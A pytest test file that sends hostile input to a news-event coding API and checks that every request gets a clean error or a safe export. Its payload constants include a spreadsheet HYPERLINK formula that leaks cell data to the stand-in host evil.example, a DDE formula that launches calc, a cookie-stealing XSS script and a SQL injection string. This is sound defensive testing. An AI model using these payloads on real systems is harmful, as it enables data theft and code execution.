"""A corpus of hostile input, on SQLite and PostgreSQL: each answer is the one it should be.

Invalid UTF-8, lone surrogates, BOMs, JSON nested 100,000 deep, 20 MB bodies, a 10,000-item
batch, wrong and missing content types, duplicate keys, HTML with scripts and formula strings,
in bodies, query strings, paths and headers. Bad input gets a 4xx JSON error with a message;
input that is valid (HTML, formulas, a BOM) is accepted and, once coded, exported with every
formula-like cell neutralised. No answer is a 5xx and nothing logs a traceback.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import zipfile
from typing import NamedTuple
from urllib.parse import quote

import pytest
from werkzeug.test import encode_multipart

from coder.dedup import MODES
from coder.formats import FORMULA_START
from coder.layouts import LAYOUTS
from service.storage.export import GENERATED_TEXT
from service.storage.tables import events
from tests.hostile import answer_problems, counted, tracebacks
from tests.support import code_with, drain_tasks, record
from workers import tasks

JSON = "application/json"
NDJSON = "application/x-ndjson"
DEPTH = 100_000
MEGABYTES_20 = 20 * 1024 * 1024
BOM = codecs.BOM_UTF8
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "+1+1", "-1+1", "\r=1+1", "=1+1", "@SUM(A1:A9)",
)  # fmt: skip
SCRIPT = '<script>alert(document.cookie)</script><img src=x onerror="alert(1)">'
# Strings that have broken parsers, databases and spreadsheets: sent in every field.
HOSTILE_TEXT = (
    "", " ", "\x00", "a\x00b", "\ud800", "\udfff\ud800", "\ufeff", "\ufeffRUS", "RUS\n",
    "\u0661\u0669", "\u202eRUS", *FORMULAS, SCRIPT, "' OR 1=1 --", "%", "_", "\\", "A" * 10_000,
    "[" * 1000, "9" * 40, "1e999", "-0", "NaN", "null", "2021-02-30", "0,0,0,0", "x" * 2001,
)  # fmt: skip
# JSON values that are not strings, as raw text (1e999 overflows a float; 10**400 does not).
HOSTILE_JSON = (
    "null", "true", "0", "-1", "18446744073709551616", "1e999", "1" + "0" * 400, "1e-400",
    "1.5", "[]", "{}", '["a"]', '{"a": "b"}', "[" * 500 + "]" * 500,
)  # fmt: skip
# Raw bytes that are not UTF-8: a Latin-1 é, an overlong /, a truncated €, an encoded surrogate.
NOT_UTF8 = (b"caf\xe9", b"\xc0\xaf", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


@pytest.fixture
def app(app_on_each_database):
    """Run on SQLite, then on PostgreSQL, counting every request."""
    return counted(app_on_each_database, "corpus")


@pytest.fixture
def answered(client, caplog):
    """Return a function that sends a request and checks its answer is a proper one."""

    def send(method: str, path: str, expected: set[int], **kwargs):
        caplog.clear()
        response = getattr(client, method)(path, **kwargs)
        response.get_data()  # kept for the caller; closing releases what it streamed from
        response.close()
        problems = answer_problems(response.status_code, response.content_type,
                                   response.get_data())  # fmt: skip
        problems += tracebacks(caplog.records)
        if response.status_code not in expected:
            problems.append(f"{response.status_code}, expected {sorted(expected)}: "
                            f"{response.get_data()[:300]!r}")  # fmt: skip
        assert not problems, f"{method.upper()} {path[:200]}\n" + "\n".join(problems)
        return response

    return send


def deep_array(depth: int = DEPTH) -> bytes:
    """Return a JSON array nested `depth` deep."""
    return b"[" * depth + b"]" * depth


def deep_object(depth: int = DEPTH) -> bytes:
    """Return a JSON object nested `depth` deep."""
    return b'{"a": ' * depth + b"1" + b"}" * depth


def utf8(text: str) -> bytes:
    """Encode text as UTF-8, lone surrogates included (as a careless client would)."""
    return text.encode("utf-8", "surrogatepass")


def field_body(fields: dict[str, bytes]) -> bytes:
    """Write a JSON object from raw JSON values, so that values json.dumps refuses get through."""
    return b"{" + b", ".join(json.dumps(name).encode() + b": " + value
                             for name, value in fields.items()) + b"}"  # fmt: skip


# --- one request each ------------------------------------------------------------------------


class Case(NamedTuple):
    """One request and the statuses it may get."""

    method: str
    path: str
    data: bytes | None
    content_type: str | None
    expected: set[int]
    id: str


ARTICLE = b'{"text": "Russia and Ukraine held talks."}'
CASES = [
    # Invalid UTF-8, anywhere a body is read whole.
    *[Case("post", "/api/v1/articles", b'{"text": "' + raw + b'"}', JSON, {400},
           id=f"not-utf8-article-{n}") for n, raw in enumerate(NOT_UTF8)],
    Case("post", "/api/v1/jobs", b'{"articles": [{"text": "\xff"}]}', JSON, {400},
         id="not-utf8-batch"),
    Case("post", "/api/v1/jobs", b'{"text": "ok"}\n{"text": "\xfe"}\n', NDJSON, {400},
         id="not-utf8-ndjson"),
    Case("post", "/api/v1/exports", b'{"source": "\xff"}', JSON, {400},
         id="not-utf8-export"),
    Case("get", "/api/v1/events?source=%FF%FE", None, None, {422}, id="not-utf8-query"),
    Case("get", "/api/v1/jobs/%FF%FE", None, None, {404}, id="not-utf8-path"),
    Case("get", "/api/v1/events/%C0%AF/mentions", None, None, {404},
         id="not-utf8-event-id"),
    # Lone surrogates, as JSON escapes: no UTF-8 store can hold them.
    Case("post", "/api/v1/articles", b'{"text": "\\ud800"}', JSON, {422},
         id="surrogate-text"),
    Case("post", "/api/v1/articles", b'{"text": "a", "title": "\\udfff\\ud800"}', JSON,
         {422}, id="surrogates-reversed-title"),
    Case("post", "/api/v1/articles", b'{"text": "a", "id": "\\udc00"}', JSON, {422},
         id="surrogate-id"),
    Case("post", "/api/v1/articles", b'{"text": "a", "metadata": {"\\ud800": 1}}', JSON,
         {422}, id="surrogate-metadata-key"),
    Case("post", "/api/v1/jobs", b'{"articles": [{"text": "\\ud800"}]}', JSON, {422},
         id="surrogate-batch"),
    Case("post", "/api/v1/jobs", b'{"text": "\\ud800"}\n', NDJSON, {422},
         id="surrogate-ndjson"),
    Case("post", "/api/v1/exports", b'{"source": "\\ud800"}', JSON, {422},
         id="surrogate-export"),
    Case("get", "/api/v1/events?cursor=%ED%A0%80", None, None, {422},
         id="surrogate-cursor"),
    Case("get", "/api/v1/events?dedup=day&cursor=WyJcdWQ4MDAiXQ", None, None, {422},
         id="surrogate-in-a-crafted-cursor"),
    # Byte order marks: a UTF-8 BOM before the body is allowed; anything else is not UTF-8.
    Case("post", "/api/v1/articles", BOM + ARTICLE, JSON, {202}, id="bom-article"),
    Case("post", "/api/v1/jobs", BOM + b'{"articles": [' + ARTICLE + b"]}", JSON, {202},
         id="bom-batch"),
    Case("post", "/api/v1/jobs", BOM + ARTICLE + b"\n", NDJSON, {202}, id="bom-ndjson"),
    Case("post", "/api/v1/exports", BOM + b"{}", JSON, {202}, id="bom-export"),
    Case("post", "/api/v1/articles", '{"text": "\ufeffa\ufeff"}'.encode(), JSON, {202},
         id="bom-inside-the-text"),
    Case("post", "/api/v1/articles", BOM + BOM + ARTICLE, JSON, {400}, id="bom-twice"),
    Case("post", "/api/v1/articles", BOM, JSON, {400}, id="bom-alone"),
    *[Case("post", "/api/v1/articles", bom + ARTICLE.decode().encode(codec), JSON, {400},
           id=f"bom-{codec}")
      for bom, codec in ((codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be"),
                         (codecs.BOM_UTF32_LE, "utf-32-le"))],
    Case("get", "/api/v1/events?source=%EF%BB%BFRUS", None, None, {422},
         id="bom-in-a-filter"),
    # JSON nested 100,000 deep: refused, never a RecursionError.
    Case("post", "/api/v1/articles", deep_array(), JSON, {400}, id="deep-array"),
    Case("post", "/api/v1/articles", deep_object(), JSON, {400}, id="deep-object"),
    Case("post", "/api/v1/articles",
         b'{"text": "a", "metadata": {"x": ' + deep_array() + b"}}", JSON, {400},
         id="deep-metadata"),
    Case("post", "/api/v1/jobs", b'{"articles": [' + deep_object() + b"]}", JSON, {400},
         id="deep-batch"),
    Case("post", "/api/v1/jobs", deep_array() + b"\n", NDJSON, {422}, id="deep-ndjson"),
    Case("post", "/api/v1/jobs", ARTICLE + b"\n" + deep_object() + b"\n", NDJSON, {202},
         id="deep-ndjson-beside-a-good-line"),
    Case("post", "/api/v1/exports", deep_array(), JSON, {400}, id="deep-export"),
    Case("post", "/api/v1/exports", b'{"layout": ' + deep_object() + b"}", JSON, {400},
         id="deep-export-field"),
    Case("get", "/api/v1/events?bbox=" + "%5B" * 10_000, None, None, {422},
         id="deep-brackets-in-a-filter"),
    # Numbers JSON cannot carry back.
    Case("post", "/api/v1/articles", b'{"text": "a", "metadata": {"x": 1e999}}', JSON,
         {400}, id="number-overflowing-to-infinity"),
    Case("post", "/api/v1/articles", b'{"text": "a", "metadata": {"x": -Infinity}}',
         JSON, {400}, id="number-infinity"),
    Case("post", "/api/v1/exports", b'{"quad_class": NaN}', JSON, {400},
         id="number-nan-in-an-export"),
    # Wrong and missing content types.
    *[Case("post", "/api/v1/articles", ARTICLE, content_type, {415},
           id=f"type-article-{content_type}")
      for content_type in (None, "", "text/plain", "text/html", "application/xml",
                           "application/x-www-form-urlencoded", NDJSON, "multipart/form-data",
                           "application/merge-patch+json", "application/json, text/plain", ";;")],
    *[Case("post", "/api/v1/jobs", b'{"articles": [' + ARTICLE + b"]}", content_type,
           {415}, id=f"type-batch-{content_type}")
      for content_type in (None, "text/plain", "text/csv", "application/octet-stream",
                           "application/x-www-form-urlencoded", "application/jsonl+xml")],
    *[Case("post", "/api/v1/exports", b'{"layout": "gdelt"}', content_type, {415},
           id=f"type-export-{content_type}")
      for content_type in (None, "text/plain", "application/x-www-form-urlencoded", NDJSON)],
    Case("post", "/api/v1/articles", ARTICLE, "APPLICATION/JSON; charset=UTF-8", {202},
         id="type-in-capitals"),
    Case("post", "/api/v1/jobs", ARTICLE + b"\n" + ARTICLE, JSON, {400},
         id="type-json-holding-ndjson"),
    Case("post", "/api/v1/jobs", b'{"articles": [' + ARTICLE + b"]}", NDJSON, {422},
         id="type-ndjson-holding-a-json-batch"),
    Case("post", "/api/v1/jobs", ARTICLE, "multipart/form-data", {422},
         id="type-multipart-without-boundary"),
    Case("post", "/api/v1/jobs", ARTICLE, "multipart/form-data; boundary=\x00", {422},
         id="type-multipart-with-a-nul-boundary"),
    Case("get", "/api/v1/events", b"{", JSON, {200}, id="type-get-with-a-body"),
    # HTML with scripts: an article is text or HTML, so it is accepted as it is.
    Case("post", "/api/v1/articles",
         json.dumps({"text": f"<html><body>{SCRIPT}<p>Talks.</p></body></html>",
                     "title": SCRIPT, "source": SCRIPT, "url": SCRIPT}).encode(),
         JSON, {202}, id="html-article"),
    Case("get", f"/api/v1/{quote(SCRIPT)}", None, None, {404}, id="html-in-a-path"),
    Case("get", f"/api/v1/jobs?cursor={quote(SCRIPT)}", None, None, {422},
         id="html-in-a-cursor"),
    # Wrong methods: 405 with the methods that are allowed.
    *[Case(method, path, None, None, {405}, id=f"method-{method}-{path}")
      for method, path in (("put", "/api/v1/articles"), ("delete", "/api/v1/jobs"),
                           ("patch", "/api/v1/events"), ("post", "/api/v1/codebook/events"))],
]  # fmt: skip


def test_hostile_requests_get_the_answer_they_should(answered, subtests):
    for case in CASES:
        with subtests.test(case.id):
            headers = {} if case.content_type is None else {"Content-Type": case.content_type}
            response = answered(case.method, case.path, case.expected, data=case.data,
                                headers=headers)  # fmt: skip
            if response.status_code == 405:
                assert response.headers["Allow"]


# --- every field, every parameter ------------------------------------------------------------


def articles_and_a_job(client) -> dict[str, str]:
    """Store two coded articles in a job and ask for an export; return their ids."""
    job = client.post("/api/v1/jobs", json={"articles": [{"text": "one"}, {"text": "two"}]})
    body = job.get_json()
    for n, article_id in enumerate(body["article_ids"]):
        code_with(client.application, article_id, [record(n), record(n + 10)])
    export = client.post("/api/v1/exports", json={}).get_json()
    drain_tasks(client.application)
    return {"job_id": body["job_id"], "article_id": str(body["article_ids"][0]),
            "event_id": "e00000", "export_id": export["export_id"]}  # fmt: skip


def url_values() -> list[str]:
    """Return the hostile strings and bytes, percent-encoded for a URL."""
    encoded = [quote(utf8(text), safe="") for text in HOSTILE_TEXT]
    return [*encoded, *(quote(raw, safe="") for raw in NOT_UTF8), "%zz", "%", "a%00b"]


def test_every_query_and_path_parameter_refuses_hostile_values(client, answered):
    ids = articles_and_a_job(client)
    document = client.get("/api/v1/openapi.json").get_json()
    sent = 0
    for template, operations in document["paths"].items():
        if "get" not in operations:
            continue
        parameters = operations.get("parameters", []) + operations["get"].get("parameters", [])
        path = template.format(**ids)
        for parameter in parameters:
            for value in url_values():
                if parameter["in"] == "query":
                    answered("get", f"{path}?{parameter['name']}={value}", {200, 404, 422})
                else:
                    # An empty or "/" segment makes a double slash: Werkzeug redirects (308).
                    url = template.format(**{**ids, parameter["name"]: value})
                    answered("get", url, {308, 404})
                sent += 1
    assert sent > 3000  # every GET operation's parameters were reached


def json_field_bodies(fields: list[str], base: dict[str, bytes]):
    """Yield a body per field and hostile value: the base object with that field replaced."""
    values = [json.dumps(text).encode() for text in HOSTILE_TEXT] + [
        raw.encode() for raw in HOSTILE_JSON
    ]
    for name in fields:
        for value in values:
            yield field_body({**base, name: value})


def test_every_json_field_refuses_hostile_values(answered):
    from schemas.articles import ArticleIn
    from schemas.exports import ExportIn

    expected = {202, 400, 422}  # 400: a number too large for a float (1e999)
    text = json.dumps("Russia and Ukraine held talks.").encode()
    for body in json_field_bodies(sorted(ArticleIn().fields), {"text": text}):
        answered("post", "/api/v1/articles", expected, data=body, content_type=JSON)
        answered("post", "/api/v1/jobs", expected, data=b'{"articles": [' + body + b"]}",
                 content_type=JSON)  # fmt: skip
    for body in json_field_bodies(sorted(ExportIn().fields), {}):
        answered("post", "/api/v1/exports", expected, data=body, content_type=JSON)


def test_hostile_idempotency_keys_are_refused_or_used(answered):
    # A header is Latin-1 on the wire: UTF-8 bytes (or invalid ones) arrive as Latin-1 text.
    for key, expected in (("", 422), (" ", 422), ("k" * 201, 422), ("a\x00b", 422),
                          ("=1+1", 202), (SCRIPT, 202), ("caf\xc3\xa9", 202), ("\xff\xfe", 202)):
        answered("post", "/api/v1/articles", {expected}, data=ARTICLE, content_type=JSON,
                 headers={"Idempotency-Key": key})  # fmt: skip


# --- big bodies and batches ------------------------------------------------------------------


def test_20_megabyte_bodies_are_refused_cleanly(answered):
    huge = b'"' + b"a" * MEGABYTES_20 + b'"'
    answered("post", "/api/v1/articles", {413}, data=b'{"text": ' + huge + b"}", content_type=JSON)
    answered("post", "/api/v1/jobs", {422}, data=b'{"articles": [{"text": ' + huge + b"}]}",
             content_type=JSON)  # fmt: skip
    answered("post", "/api/v1/jobs", {422}, data=b'{"text": ' + huge + b"}\n",
             content_type=NDJSON)  # fmt: skip
    # Encoded here: the test client would spool it to a file it never closes.
    boundary, upload = encode_multipart({"files": (io.BytesIO(b"a" * MEGABYTES_20), "huge.txt")})
    answered("post", "/api/v1/jobs", {422}, data=upload,
             content_type=f"multipart/form-data; boundary={boundary}")  # fmt: skip
    answered("post", "/api/v1/exports", {422}, data=b'{"source": ' + huge + b"}", content_type=JSON)
    answered("get", "/api/v1/events", {200}, data=b"a" * MEGABYTES_20, content_type=JSON)


def test_20_megabyte_bodies_over_the_configured_limit_are_413(make_app, caplog):
    app = counted(make_app(MAX_CONTENT_LENGTH=16 * 1024 * 1024), "corpus")
    client = app.test_client()
    body = b'{"text": "' + b"a" * MEGABYTES_20 + b'"}'
    for path, content_type in (("/api/v1/articles", JSON), ("/api/v1/jobs", NDJSON),
                               ("/api/v1/exports", JSON)):
        response = client.post(path, data=body, content_type=content_type)
        assert response.status_code == 413
        assert not answer_problems(413, response.content_type, response.get_data())
        chunked = client.post(path, input_stream=io.BytesIO(body), content_type=content_type,
                              headers={"Transfer-Encoding": "chunked"},
                              environ_overrides={"wsgi.input_terminated": True})  # fmt: skip
        assert chunked.status_code == 413
    assert not tracebacks(caplog.records)


def test_a_10000_article_batch_is_accepted_and_one_more_is_413(answered):
    articles = [{"text": f"Article {n}: Russia and Ukraine held talks."} for n in range(10_000)]
    accepted = answered("post", "/api/v1/jobs", {202}, json={"articles": articles}).get_json()
    assert accepted["accepted"] == 10_000 and accepted["rejected"] == []
    job = answered("get", accepted["links"]["self"], {200}).get_json()
    assert job["counts"]["articles"] == 10_000
    answered("post", "/api/v1/jobs", {413}, json={"articles": [*articles, {"text": "one more"}]})


def hostile_items() -> list[bytes]:
    """Return NDJSON lines, each bad in its own way."""
    return [
        b'{"text": "\\u0000"}', b'{"text": "\\ud800"}', deep_array(2000), b"not json",
        b'{"text": ""}', b'{"text": 1e999}', b'{"text": NaN}', b'{"text": "a", "extra": 1}',
        b'{"text": "a", "published_at": "2021-02-30"}', b'["a list"]', b'"a string"',
        BOM + b'{"text": "a BOM inside the stream"}', b'{"text": "a", "id": []}',
    ]  # fmt: skip


def test_a_10000_item_batch_of_hostile_items_refuses_each_with_its_reason(answered):
    bad = hostile_items()
    lines = [utf8('{"text": "The only good one, ' + FORMULAS[0].replace('"', "'") + '"}')]
    lines += [bad[n % len(bad)] for n in range(9_999)]
    response = answered("post", "/api/v1/jobs", {202}, data=b"\n".join(lines),
                        content_type=NDJSON)  # fmt: skip
    body = response.get_json()
    assert body["accepted"] == 1
    assert [item["index"] for item in body["rejected"]] == list(range(1, 10_000))
    assert all(item["reason"] for item in body["rejected"])
    job = answered("get", body["links"]["self"], {200}).get_json()
    assert job["counts"]["rejected"] == 9_999 and len(job["rejected"]) == 100


def test_the_deepest_metadata_a_post_accepts_reads_back(answered):
    low, high = 1, 5_000  # the depth that parses depends on the stack: find the last one
    while low < high:
        depth = (low + high + 1) // 2
        body = b'{"text": "deep ' + str(depth).encode() + b'", "metadata": {"x": '
        response = answered("post", "/api/v1/articles", {202, 400},
                            data=body + deep_array(depth) + b"}}", content_type=JSON)  # fmt: skip
        low, high = (depth, high) if response.status_code == 202 else (low, depth - 1)
    body = b'{"text": "the deepest", "metadata": {"x": ' + deep_array(low) + b"}}"
    article = answered("post", "/api/v1/articles", {202}, data=body, content_type=JSON)
    answered("get", article.get_json()["links"]["article"], {200})


# --- duplicate keys --------------------------------------------------------------------------


def test_duplicate_keys_take_the_last_value_everywhere_json_is_read(answered):
    posted = answered("post", "/api/v1/articles", {202}, content_type=JSON,
                      data=b'{"text": "dup", "title": "first", "title": "last"}')  # fmt: skip
    article = answered("get", posted.get_json()["links"]["article"], {200}).get_json()
    assert article["title"] == "last"
    batch = answered("post", "/api/v1/jobs", {202}, content_type=JSON,
                     data=b'{"articles": [{"text": "a"}], "articles": [{"text": "b"}, '
                          b'{"text": "c"}]}').get_json()  # fmt: skip
    assert batch["accepted"] == 2
    export = answered("post", "/api/v1/exports", {202}, content_type=JSON,
                      data=b'{"layout": "gdelt", "layout": "phoenix"}').get_json()  # fmt: skip
    assert export["request"]["layout"] == "phoenix"


def test_duplicate_parameters_parts_and_columns_are_read_one_way(client, answered):
    job = client.post("/api/v1/jobs", json={"articles": [{"text": "p"}]}).get_json()
    code_with(client.application, job["article_ids"][0], [record(1), record(2), record(3)])
    page = answered("get", "/api/v1/events?limit=1&limit=1000", {200}).get_json()
    assert len(page["events"]) == 1  # the first of repeated query values counts
    files = [(io.BytesIO(b"first file"), "a.txt"), (io.BytesIO(b"second file"), "a.txt"),
             (io.BytesIO(b"text,text\none,two\n"), "dup.csv")]  # fmt: skip
    upload = answered("post", "/api/v1/jobs", {202}, data={"files": files},
                      content_type="multipart/form-data").get_json()  # fmt: skip
    assert upload["accepted"] == 3
    # Servers join repeated headers (or keep one): either way the same request gets one answer.
    keys = [("Idempotency-Key", "dup-key"), ("Idempotency-Key", "other")]
    first, again = (answered("post", "/api/v1/articles", {202}, data=b'{"text": "keyed twice"}',
                             content_type=JSON, headers=keys) for _ in "12")  # fmt: skip
    assert again.get_json() == first.get_json() and first.get_json()["existing"] is False


# --- uploads ---------------------------------------------------------------------------------


def test_hostile_uploads_keep_the_good_files_and_say_why_the_others_were_refused(answered):
    files = [
        (io.BytesIO(b"A good article."), "good.txt"),
        (io.BytesIO(BOM + b"text,title\nA BOM before the header.,t\n"), "bom.csv"),
        (io.BytesIO(BOM + b'{"text": "A BOM before a JSON file."}'), "bom.json"),
        (io.BytesIO(f"<html>{SCRIPT}<p>Talks in Geneva.</p></html>".encode()), "page.html"),
        (io.BytesIO(b"caf\xe9"), "latin1.txt"),
        (io.BytesIO(b"\xff\xfet\x00e\x00x\x00t\x00"), "utf16.csv"),
        (io.BytesIO(deep_array()), "deep.json"),
        (io.BytesIO(b'{"text": 1e999}\n{"text": "\\ud800"}\n'), "bad.jsonl"),
        (io.BytesIO(b"MZ\x90\x00\x03"), "program.exe"),
        (io.BytesIO(b"text\n" + FORMULAS[0].encode() + b"\n"), "formula.csv"),
    ]
    body = answered("post", "/api/v1/jobs", {202}, data={"files": files},
                    content_type="multipart/form-data").get_json()  # fmt: skip
    assert body["accepted"] == 5
    refused = {item["file"] for item in body["rejected"]}
    assert refused == {"latin1.txt", "utf16.csv", "deep.json", "bad.jsonl", "program.exe"}


# --- HTML and formulas, accepted, coded and exported safely ----------------------------------


GUARDED = {"'" + start for start in FORMULA_START}
# The record's text fields: what the coder copies from the article or its dictionaries. The
# others (ids, codes it derives, dates, versions) have a fixed form that cannot hold a formula.
TEXT_FIELDS = [
    name for name, value in record(0).items()
    if isinstance(value, str) and name not in {*GENERATED_TEXT, "article_id"}
]


# CAMEO codes with a PLOVER category (01 and 02 have none, and PLOVER would leave them out).
CODES = (("036", "036", "03", 1), ("042", "042", "04", 1), ("112", "112", "11", 3),
         ("190", "190", "19", 4))  # fmt: skip


def unsafe_cells(text: str, delimiter: str) -> list[str]:
    """Return the text cells a spreadsheet would run as a formula (numbers are fine)."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]  # fmt: skip


def guarded_cells(text: str, delimiter: str) -> set[str]:
    """Return the cells that carry the apostrophe the export adds."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return {cell for row in rows for cell in row if cell[:2] in GUARDED}


def formula_records(first: int) -> list[dict]:
    """Return events whose every text field starts like a formula, one formula per event."""
    coded = []
    for n, formula in enumerate(FORMULAS):
        code, base, root, quad = CODES[n % len(CODES)]
        coded.append(record(
            first + n, event_code=code, event_base_code=base, event_root_code=root,
            quad_class=quad, goldstein=-10.0, date=f"2022-02-2{n % 3}",
            **{name: fitted(formula + name, name) for name in TEXT_FIELDS},
        ))  # fmt: skip
    return coded


def fitted(value: str, name: str) -> str:
    """Cut a value to its column's length (codes are short; PostgreSQL holds them to it)."""
    return value[: getattr(events.c[name].type, "length", None)]


@pytest.fixture
def formula_job(client, app):
    """A job of two articles whose fields and events start like formulas; return its id."""
    articles = [{"text": f"Article {n}. {FORMULAS[n]}", "title": FORMULAS[n],
                 "source": FORMULAS[n + 1], "url": FORMULAS[n + 2], "id": FORMULAS[n + 3],
                 "published_at": "2022-02-20"} for n in range(2)]  # fmt: skip
    job = client.post("/api/v1/jobs", json={"articles": articles}).get_json()
    assert job["accepted"] == 2
    for n, article_id in enumerate(job["article_ids"]):
        code_with(app, article_id, formula_records(100 * n))
    drain_tasks(app)
    return job["job_id"]


def check_spreadsheet_safe(text: str, delimiter: str, where: str) -> None:
    """Assert no cell runs as a formula, and that formula cells are there, neutralised."""
    assert not unsafe_cells(text, delimiter), (where, unsafe_cells(text, delimiter)[:5])
    assert guarded_cells(text, delimiter), (where, text[:300])


def test_every_exported_cell_is_safe_in_a_spreadsheet(answered, formula_job):
    downloads = [f"/api/v1/jobs/{formula_job}/events.csv", "/api/v1/events.csv"]
    for mode in MODES:
        downloads += [f"/api/v1/events.csv?dedup={mode}&gzip=false"]
        for layout in sorted(LAYOUTS):
            for fmt in ("csv", "tsv"):
                query = f"layout={layout}&format={fmt}&dedup={mode}"
                downloads += [f"/api/v1/events/export?{query}",
                              f"/api/v1/jobs/{formula_job}/events/export?{query}"]  # fmt: skip
    for url in downloads:
        text = answered("get", url, {200}).get_data(as_text=True)
        check_spreadsheet_safe(text, "\t" if "format=tsv" in url else ",", url)
    native = answered("get", "/api/v1/events.csv", {200}).get_data(as_text=True)
    cells = {cell for row in csv.reader(io.StringIO(native, newline="")) for cell in row}
    for event in formula_records(0):
        assert {"'" + event[name] for name in TEXT_FIELDS} <= cells, event["event_id"]


def test_every_cell_of_an_export_bundle_is_safe_in_a_spreadsheet(app, answered, formula_job):
    for layout in sorted(LAYOUTS):
        for fmt in ("csv", "tsv"):
            asked = answered("post", "/api/v1/exports", {202},
                             json={"layout": layout, "format": fmt, "dedup": "cluster"})
            drain_tasks(app)
            with app.app_context():
                assert tasks.build_export(asked.get_json()["export_id"]) == "done"
            bundle = answered("get", asked.get_json()["links"]["bundle"], {200}).get_data()
            with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
                for name in archive.namelist():
                    if name.endswith(f".{fmt}"):
                        text = archive.read(name).decode()
                        check_spreadsheet_safe(text, "\t" if fmt == "tsv" else ",", name)


def test_html_with_scripts_and_formulas_is_coded_and_exported_safely(app, answered):
    page = (f"<html><head><title>{FORMULAS[0]}</title><script>var x = 'Russia invaded "
            f"Ukraine';</script></head><body>{SCRIPT}<p>{FORMULAS[1]} Russian President "
            "Vladimir Putin met Chinese President Xi Jinping in Beijing on Friday.</p>"
            "</body></html>")  # fmt: skip
    posted = answered("post", "/api/v1/articles", {202}, json={
        "text": page, "title": SCRIPT, "source": FORMULAS[2], "url": FORMULAS[3],
        "published_at": "2022-02-04",
    }).get_json()  # fmt: skip
    drain_tasks(app)
    with app.app_context():
        assert tasks.code_article(posted["article_id"]) == "coded"
    article = answered("get", posted["links"]["article"], {200}).get_json()
    assert article["title"] == SCRIPT and article["events"]
    assert not any("alert(" in event["sentence"] or "invaded" in event["sentence"]
                   for event in article["events"])  # fmt: skip
    for layout in sorted(LAYOUTS):
        for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
            query = f"layout={layout}&format={fmt}&article_id={article['article_id']}"
            url = f"/api/v1/events/export?{query}"
            text = answered("get", url, {200}).get_data(as_text=True)
            assert not unsafe_cells(text, delimiter), (url, unsafe_cells(text, delimiter))
            if layout == "native":  # the sentence the event came from starts with the formula
                assert "'" + FORMULAS[1] in {cell[: len(FORMULAS[1]) + 1] for cell in
                                             guarded_cells(text, delimiter)}  # fmt: skip
